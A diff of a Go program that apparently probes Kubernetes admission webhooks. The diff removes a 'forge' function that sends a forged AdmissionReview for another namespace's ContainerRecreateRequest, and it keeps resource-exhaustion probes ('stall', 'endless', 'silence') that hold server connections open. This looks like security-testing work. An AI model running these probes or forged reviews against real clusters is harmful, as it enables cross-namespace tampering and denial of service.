@@ -31,8 +31,7 @@ const (
 )
 
 func main() {
-	victim := os.Getenv("VICTIM")
-	if victim != "" { // a pod, beside another one
+	if os.Getenv("SILENCE") != "" { // a pod, beside another one
 		var all sync.WaitGroup
 		for _, address := range os.Args[1:] {
 			all.Add(1)
@@ -44,10 +43,8 @@ func main() {
 		all.Wait()
 	}
 	for _, address := range os.Args[1:] {
-		fmt.Println("forge:", forge(address, victim))
 		fmt.Println("stall:", stall(address))
 		fmt.Println("endless:", endless(address))
-		fmt.Println("forge again:", forge(address, victim))
 	}
 }
 
@@ -72,16 +69,6 @@ func post(address string, body io.Reader) string {
 	defer func() { _ = response.Body.Close() }()
 	text, _ := io.ReadAll(response.Body)
 	return fmt.Sprintf("%d %q", response.StatusCode, bytes.TrimSpace(text))
-}
-
-// forge sends a review that no API server has sent, for the hooks of a pod in another namespace.
-func forge(address, victim string) string {
-	return post(address,
-		bytes.NewReader(fmt.Appendf(nil, `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1",
-		"operation":"CREATE","namespace":%q,"resource":{"group":"apps.kruise.io","version":"v1beta1",
-		"resource":"containerrecreaterequests"},
-		"object":{"apiVersion":"apps.kruise.io/v1beta1","kind":"ContainerRecreateRequest","metadata":{"name":"a"},
-		"spec":{"podName":"pod","containers":[{"name":"a"}]}}}}`, victim)))
 }
 
 // silence holds connections without a word, and opens another one for each that the server closes.
